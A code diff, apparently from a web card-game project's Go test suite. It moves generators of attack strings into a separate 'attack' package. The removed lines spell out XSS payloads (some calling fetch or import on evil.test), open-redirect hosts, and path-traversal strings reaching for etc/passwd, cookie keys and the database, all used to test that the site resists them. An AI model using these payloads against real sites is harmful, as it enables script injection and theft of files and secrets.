@@ -7,6 +7,8 @@ import (
 	"net/url"
 	"strings"
 	"testing"
+
+	"fortythieves/handlers/attack"
 )
 
 // everyPost lists a request for each route with effects, which would have its effect if it came from the
@@ -81,20 +83,10 @@ func TestOverHTTPSAPageWithoutItHasNoEffect(t *testing.T) {
 	}
 }
 
-// elsewhere are sixty addresses that are not this site's, as attackers write them.
-func elsewhere() (list []string) {
-	for _, host := range []string{"evil.test", "evil.test%2f..", "cards.test.evil.test", "cards.test@evil.test", "[::1]", "evil.test:80"} {
-		for _, begin := range []string{"//", "http://", "https:", "\\\\", "/\\", "///", "/%2f", "/%5c", "\t//", "/.//"} {
-			list = append(list, begin+host)
-		}
-	}
-	return list
-}
-
 func TestNothingThatIsSentLeadsToAnotherSite(t *testing.T) {
 	b := open(t, func(o *Options) { o.Base = "/cards" }).browser()
 	names := []string{"next", "return", "returnTo", "redirect", "url", "to", "from", "variant", "deal", "at", "ask", "zone"}
-	list := elsewhere()
+	list := attack.Elsewhere()
 	if len(list) != 60 {
 		t.Fatalf("%d strings", len(list))
 	}
@@ -133,40 +125,22 @@ func leadsHere(t *testing.T, a *answer, by string) {
 
 func TestNoPathLeadsOutOfTheStaticFiles(t *testing.T) {
 	b := open(t, nil).browser()
-	tried := 0
-	for _, up := range []string{"../", "..%2f", "%2e%2e/", "%2e%2e%2f", "..%5c", "..\\", "....//", "..;/", "%252e%252e%252f", ".%00./"} {
-		for _, deep := range []int{1, 2, 5, 9} {
-			for _, file := range []string{"etc/passwd", "static.go", "go.mod", "cookie.keys", "fortythieves.db"} {
-				tried++
-				path := "/static/" + strings.Repeat(up, deep) + file
-				r := httptest.NewRequest("GET", "http://cards.test/", nil)
-				u, err := url.ParseRequestURI(path)
-				if err != nil {
-					continue
-				}
-				r.URL, r.RequestURI = u, path
-				if a := b.send(r); a.status != http.StatusNotFound && a.status != http.StatusBadRequest && !(a.status == 301 && strings.HasPrefix(a.place(), "/")) {
-					t.Errorf("%s is answered with %d: %.100s", path, a.status, a.body)
-				}
-			}
+	list := attack.Paths()
+	if len(list) != 200 {
+		t.Fatalf("%d strings", len(list))
+	}
+	for _, text := range list {
+		path := "/static/" + text
+		r := httptest.NewRequest("GET", "http://cards.test/", nil)
+		u, err := url.ParseRequestURI(path)
+		if err != nil {
+			continue
+		}
+		r.URL, r.RequestURI = u, path
+		if a := b.send(r); a.status != http.StatusNotFound && a.status != http.StatusBadRequest && !(a.status == 301 && strings.HasPrefix(a.place(), "/")) {
+			t.Errorf("%s is answered with %d: %.100s", path, a.status, a.body)
 		}
 	}
-	if tried != 200 {
-		t.Errorf("%d strings", tried)
-	}
-}
-
-// payloads are 120 texts that would run a script where one is not escaped.
-func payloads() (list []string) {
-	for _, call := range []string{"alert(1)", "fetch('//evil.test')", "document.title='x'", "import('//evil.test')", "eval('1')", "top.x=1"} {
-		for _, shape := range []string{`<script>%s</script>`, `"><script>%s</script>`, `'><img src=x onerror=%s>`, `<svg onload=%s>`, `<svg><animate onbegin=%s>`,
-			`</title><script>%s</script>`, `</textarea><script>%s</script>`, `javascript:%s`, `<a href="javascript:%s">x</a>`, `<iframe srcdoc="<script>%s</script>">`,
-			`" onfocus="%s" autofocus="`, `' onmouseover='%s`, `<body onpageshow=%s>`, `<details open ontoggle=%s>`, `<math><a xlink:href="javascript:%s">`,
-			`<!--><script>%s</script>`, `<scr<script>ipt>%s</script>`, `{{constructor.constructor('%s')()}}`, `<div hx-on:load="%s" hx-get="//evil.test">`, "<base href='//evil.test'>%s"} {
-			list = append(list, fmt.Sprintf(shape, call))
-		}
-	}
-	return list
 }
 
 // What is typed comes back as text or not at all: no element or attribute of it is on a page.
@@ -174,7 +148,7 @@ func TestNothingThatIsTypedBecomesMarkup(t *testing.T) {
 	h := open(t, nil)
 	b := h.browser()
 	id := b.plant(midGame(t), true)
-	list := payloads()
+	list := attack.Scripts()
 	if len(list) != 120 {
 		t.Fatalf("%d payloads", len(list))
 	}
